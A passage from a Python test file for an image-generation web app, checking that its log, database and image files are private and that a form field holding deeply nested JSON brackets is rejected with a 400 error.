    files = [tmp_path / "logs" / "app.log", tmp_path / "data" / "imagegen.sqlite3", tmp_path / "images" / name]
    for path in folders + files:
        assert path.stat().st_mode & 0o077 == 0, f"{path}: {oct(path.stat().st_mode)}"


def test_deep_json_in_a_form_field_is_a_400(fake_client):
    for field in ("loras", "outpaint"):
        form = {"prompt": PROMPT, field: "[" * 50_000}
        answer = fake_client.post("/generate", data=form, content_type="multipart/form-data")
        assert answer.status_code == 400 and answer.json["error"]["details"][0]["field"].startswith(field), field
